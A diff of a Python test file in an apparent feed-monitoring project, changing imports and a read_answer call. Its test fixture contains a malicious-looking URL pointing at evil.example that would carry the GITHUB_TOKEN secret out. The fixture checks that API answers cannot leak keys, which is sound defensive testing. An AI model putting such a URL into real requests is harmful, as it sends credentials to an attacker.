@@ -4,11 +4,11 @@ import json
 
 from tests.sources.conftest import NOW
 
+from brandwatch.feeds import parse_document
 from brandwatch.models import Document, Entry, Source
 from brandwatch.sources.registry import Registry
-from brandwatch.sources.request import build_request
+from brandwatch.sources.request import build_request, thread_source
 from brandwatch.sources.response import read_answer
-from brandwatch.sources.threads import thread_source
 
 REGISTRY = Registry()
 
@@ -48,7 +48,9 @@ def test_an_answer_cannot_send_our_keys_anywhere():
         "comments_url": "https://evil.example/?take=${GITHUB_TOKEN}",
     }
     body = json.dumps({"items": [issue]}).encode()
-    (entry,) = read_answer(kind, Document(url="https://api.github.com/", status=200, body=body), {}).entries
+    (entry,) = read_answer(
+        kind, Document(url="https://api.github.com/", status=200, body=body), {}, parse_document
+    ).entries
     source = Source(
         url="https://api.github.com/search", kind="github", headers=(("Authorization", "Bearer ${GITHUB_TOKEN}"),)
     )
